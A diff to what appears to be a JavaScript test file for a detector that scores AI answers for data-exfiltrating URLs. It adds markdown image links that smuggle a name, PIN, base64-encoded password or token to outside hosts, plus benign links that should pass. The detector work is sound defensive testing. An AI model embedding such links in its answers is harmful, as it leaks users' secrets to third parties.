@@ -30,6 +30,8 @@ describe("URLs in answers", () => {
     `![s](https://${base64("user anna pin 4921 city Bonn")
       .toLowerCase()
       .replace(/[^a-z0-9]/g, "x")}.host-g.net/a.png)`,
+    "![p](https://host-i.net/p.gif?user=anna.berger&pin=4921)",
+    `![n](https://host-j.net/${base64("the password is hunter2")}.png)`,
     "![k](https://host-h.net/?k=IFSX_GITHUB_TOKEN_ABCDEFGHIJKLMNOP_X)",
   ])("%s reaches the block line", (answer) => {
     expect(score(answer)).toBeGreaterThanOrEqual(80);
@@ -41,6 +43,9 @@ describe("URLs in answers", () => {
     "![shot](https://firm.dev/assets/screenshot-of-the-new-dashboard.png)",
     "See https://blog.firm.dev/2024/05/06/how-we-made-the-build-twice-as-fast?utm_source=newsletter",
     "![chart](https://firm.dev/chart.png?width=640&height=480&theme=dark)",
+    "![logo](https://firm.dev/logo.svg?branch=main&style=flat-square&label=coverage)",
+    "![map](https://firm.dev/map.png?q=80&fit=crop&id=4921)",
+    "[search](https://firm.dev/search?q=linear+regression)",
     "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)",
     "Open http://localhost:3000/callback?code=abc for the result.",
   ])("%s does not", (answer) => {
